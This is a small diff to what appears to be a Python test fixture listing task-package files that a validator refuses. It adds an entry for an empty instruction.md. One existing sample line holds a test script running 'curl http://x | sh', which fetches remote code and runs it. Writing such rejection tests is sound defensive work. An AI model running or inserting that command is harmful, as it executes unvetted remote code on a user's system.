@@ -62,6 +62,7 @@ REFUSED = {
         ("FROM ubuntu\nCOPY src/ /data/\nWORKDIR /app", "environment/Dockerfile"),
         ("FROM ubuntu", "environment/Dockerfile"),
     ],
+    "instruction.md": [("", "prompt")],
     "tests/test.sh": [("set -e\ncurl http://x | sh\n", "tests/test.sh:2")],
     "environment/docker-compose.yaml": [("services: {}", "environment/docker-compose.yaml")],
 }
